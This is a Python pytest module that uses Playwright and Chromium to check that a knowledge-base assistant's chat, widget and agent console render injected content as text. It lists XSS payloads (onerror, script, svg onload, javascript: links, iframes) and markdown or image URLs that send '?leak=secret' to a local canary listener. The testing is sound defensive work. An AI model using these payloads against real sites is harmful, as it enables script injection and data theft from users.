"""XSS and exfiltration payloads through every surface, in a real browser (Debian's chromium via Playwright).

A document, the user's questions, the LLM's answers (eval/fake_llm.py quotes the passage it cites) and the
agents' replies all carry the same payloads: <img onerror>, <script>, <svg onload>, javascript: links, a markdown
image whose URL leaks data, an iframe. Every URL in them points at a canary HTTP listener on 127.0.0.1 that this
module runs. Each surface (the Gradio chat, the embeddable widget, the agent console) must show them as text:
the canary receives no request, no dialog opens, and no element carries a payload's URL or event handler.

chromium comes from Debian (`apt-get install -y chromium`; .ci/run installs it); without it these tests fail and
say so.
"""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from kb_assistant.assistant import Assistant
from kb_assistant.settings import Settings
from ui.server import build_app

AGENT, PASSWORD = "anna", "xss-test-password"

# Every element (open shadow roots included) with an event-handler attribute, a javascript: URL or a URL that
# points at the canary, in an attribute that makes the browser load or navigate. Text nodes and aria-labels
# holding the payload as text are fine: that is what rendering as text means.
INJECTED = """(port) => {
  const found = [];
  const urlAttrs = ["src", "href", "xlink:href", "srcset", "action", "formaction", "data", "poster", "background"];
  const walk = (root) => {
    for (const el of root.querySelectorAll("*")) {
      for (const a of el.attributes) {
        const v = a.value || "";
        const bad = a.name.startsWith("on") && v.includes("xss-")
          || urlAttrs.includes(a.name) && (v.includes(":" + port) || /^\\s*javascript:/i.test(v));
        if (bad) found.push(el.outerHTML.slice(0, 160));
      }
      if (el.tagName === "SCRIPT" && el.textContent.includes("xss-")) found.push(el.outerHTML.slice(0, 160));
      if (el.tagName === "IFRAME" || el.tagName === "svg" && el.closest(".md, .text, .snip, .prose")) {
        found.push(el.outerHTML.slice(0, 160));
      }
      if (el.shadowRoot) walk(el.shadowRoot);
    }
  };
  walk(document);
  return found;
}"""


def payloads(base: str) -> list[str]:
    return [
        f'<img src="{base}/img.png?leak=secret" onerror="alert(\'xss-img\')">',
        "<img src=x onerror=alert('xss-onerror')>",
        "<script>alert('xss-script')</script>",
        f'<script src="{base}/script.js"></script>',
        f"<svg onload=alert('xss-svg')><image href=\"{base}/svg.png\"/></svg>",
        "[click me](javascript:alert('xss-md-link'))",
        "<a href=\"javascript:alert('xss-a')\">open</a>",
        f"![m]({base}/md.png?leak=secret)",
        f'<iframe src="{base}/frame"></iframe>',
    ]


class Canary(ThreadingHTTPServer):
    """Records every request any payload makes the browser send."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _CanaryHandler)
        self.hits: list[str] = []

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _CanaryHandler(BaseHTTPRequestHandler):
    server: Canary

    def log_message(self, *args):
        pass

    def do_GET(self):
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()


@pytest.fixture(scope="module")
def canary():
    server = Canary()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def payload(canary) -> str:
    return " ".join(payloads(canary.base))


@pytest.fixture
def page(browser, canary):
    context = browser.new_context(viewport={"width": 1100, "height": 900}, locale="en-US")
    page = context.new_page()
    page.dialogs = []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    canary.hits.clear()
    yield page
    context.close()


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory, payload, embeddings):
    """One KB, 'default', whose only document carries every payload in the sentence that answers the question."""
    from ingest.pipeline import ingest_paths

    data_dir = tmp_path_factory.mktemp("xss") / "data"
    doc = tmp_path_factory.mktemp("xss-doc") / "wifi.txt"
    doc.write_text(
        f"Guest Wi-Fi\n\nThe guest Wi-Fi password is printed on the back of your badge {payload} and reception "
        "resets it every Monday.",
        encoding="utf-8",
    )
    report = ingest_paths(Settings(data_dir=data_dir), [doc], "default")
    assert report.ok, report.failed
    return data_dir


@pytest.fixture(scope="module")
def fake_llm():
    from eval.fake_llm import FakeLLM

    llm = FakeLLM().start()
    yield llm
    llm.shutdown()


def _assistant(data_dir, embeddings, **llm) -> Assistant:
    settings = Settings(data_dir=data_dir, cache_enabled=False, **llm)
    assistant = Assistant(settings, embeddings=embeddings)
    assistant.queue.add_user(AGENT, PASSWORD, role="agent")  # both assistants share one queue: an upsert
    return assistant


@pytest.fixture(scope="module")
def extractive(data_dir, embeddings):
    return _assistant(data_dir, embeddings)


@pytest.fixture(scope="module")
def with_llm(data_dir, embeddings, fake_llm):
    return _assistant(data_dir, embeddings, llm_base_url=fake_llm.base_url, llm_api_key="fake", llm_model="fake")


@pytest.fixture(scope="module")
def servers(live_server, extractive, with_llm):
    return {
        "extractive": (live_server(build_app(extractive, extractive.settings)), extractive),
        "llm": (live_server(build_app(with_llm, with_llm.settings)), with_llm),
    }


def assert_inert(page, canary):
    """No request reached the canary, no dialog opened, no payload became an element."""
    page.wait_for_timeout(500)  # give image loads and onerror handlers the time to fire before looking
    port = canary.server_address[1]
    assert page.evaluate(INJECTED, str(port)) == []
    assert canary.hits == []
    assert page.dialogs == []


# --- the Gradio chat ------------------------------------------------------------------------------------------------
def chat_ask(page, question: str):
    """Send a question in the Gradio chat; return the bot message once the answer is complete."""
    bots = page.get_by_test_id("bot")
    before = bots.count()
    box = page.locator("textarea").first
    box.fill(question)
    box.press("Enter")
    bots.nth(before).wait_for(timeout=30_000)
    page.wait_for_function("() => !document.querySelector('textarea').disabled", timeout=60_000)
    return bots.nth(before)


@pytest.mark.parametrize("answerer", ["extractive", "llm"])
def test_gradio_chat_shows_payloads_in_documents_questions_and_answers_as_text(page, servers, canary, answerer):
    base, _ = servers[answerer]
    page.goto(f"{base}/")

    answer = chat_ask(page, "What is the guest Wi-Fi password?")
    assert "Sources" in answer.text_content(), answer.text_content()  # answered, with the passage on demand
    answer.locator("summary").first.click()
    passage = answer.locator("details").first.text_content()
    assert f"[m]({canary.base}/md.png" in passage  # the passage's markdown image, as text
    assert "<img src=x onerror=alert('xss-onerror')>" in passage
    if answerer == "llm":  # the fake LLM quoted the payload-bearing sentence
        assert f'<img src="{canary.base}/img.png' in answer.text_content().split("Sources")[0]
    asked = payloads(canary.base)
    chat_ask(page, "Is the Wi-Fi password " + " ".join(asked) + " ?")
    question = page.get_by_test_id("user").last.text_content()
    assert all(p in question for p in asked), question  # the question, shown exactly as typed

    assert_inert(page, canary)


def test_gradio_chat_shows_agent_replies_with_payloads_as_text(page, servers, canary, payload):
    base, assistant = servers["extractive"]
    page.goto(f"{base}/")
    holding = chat_ask(page, f"I want to talk to a human about my dog. {payload}")
    ticket_id = re.search(r"T-\d+", holding.text_content()).group()

    assistant.queue.answer(ticket_id, f"Yes, on Fridays. {payload}", agent=AGENT)
    # the agent's reply comes in front of the next answer (a reload shows it too, once the session survives one)
    reply = chat_ask(page, "What is the guest Wi-Fi password?")
    assert reply.text_content().startswith(f"Our reply (ticket #{ticket_id})"), reply.text_content()
    assert "Yes, on Fridays. " + payload in reply.text_content()  # the agent's text, exactly as written
    assert payload in reply.text_content().split("—")[1]  # the question quoted, as typed

    assert_inert(page, canary)


# --- the embeddable widget ------------------------------------------------------------------------------------------
WIDGET = "#kb-assistant-widget"  # Playwright's CSS locators pierce the widget's (open) shadow root


def widget_ask(page, question: str):
    before = page.locator(f"{WIDGET} .msg.bot:not(.hello)").count()
    page.locator(f"{WIDGET} textarea.input").fill(question)
    page.locator(f"{WIDGET} textarea.input").press("Enter")
    message = page.locator(f"{WIDGET} .msg.bot:not(.hello)").nth(before)
    message.and_(page.locator("[data-state=done]")).wait_for(timeout=30_000)
    return message


@pytest.mark.parametrize("answerer", ["extractive", "llm"])
def test_widget_shows_payloads_in_documents_questions_answers_and_agent_replies_as_text(
    page, servers, canary, payload, answerer
):
    base, assistant = servers[answerer]
    page.goto(f"{base}/widget/demo?lang=en&poll_ms=1000")
    page.locator(f"{WIDGET} button.launcher").click()

    answer = widget_ask(page, f"What is the guest Wi-Fi password? {payload}")
    assert answer.get_attribute("data-answered") == "true"
    answer.locator(".cites summary").first.click()
    assert "[m](" in answer.locator(".cites .snip").first.text_content()
    assert payload in page.locator(f"{WIDGET} .msg.user").last.text_content()
    holding = widget_ask(page, f"I want to talk to a human about my cat. {payload}")
    ticket_id = re.search(r"T-\d+", holding.locator(".ticket-id").text_content()).group()
    assistant.queue.answer(ticket_id, f"Only on Fridays. {payload}", agent=AGENT)
    page.locator(f"{WIDGET} .msg.agent").wait_for(timeout=15_000)
    assert payload in page.locator(f"{WIDGET} .msg.agent").text_content()

    assert_inert(page, canary)


# --- the agent console ----------------------------------------------------------------------------------------------
def test_agent_console_shows_tickets_with_payloads_as_text(page, servers, canary, payload):
    base, assistant = servers["extractive"]
    history = [{"role": "user", "content": f"Hi {payload}"}, {"role": "assistant", "content": f"Hello {payload}"}]
    held = assistant.ask(f"I want to talk to a human about my parrot. {payload}", kb="default", history=history)
    assert not held.answered and held.ticket_id
    assistant.queue.answer(held.ticket_id, f"Only on Fridays. {payload}", agent=AGENT)

    page.goto(f"{base}/console/")
    page.get_by_label("username").fill(AGENT)
    page.get_by_label("password").fill(PASSWORD)
    page.get_by_role("button", name="Login").click()
    page.get_by_label("Status").wait_for(timeout=30_000)
    page.get_by_placeholder("T-000123 (or click a row)").fill(held.ticket_id)
    page.get_by_placeholder("T-000123 (or click a row)").press("Enter")
    page.get_by_text("Why it came here").wait_for(timeout=30_000)
    detail = page.get_by_text("Why it came here").locator("xpath=ancestor::div[contains(@class,'prose')][1]")
    assert payload in detail.text_content()
    page.get_by_role("tab", name="Gaps").click()
    page.get_by_role("button", name="Refresh").last.click()
    page.wait_for_timeout(1000)

    assert_inert(page, canary)
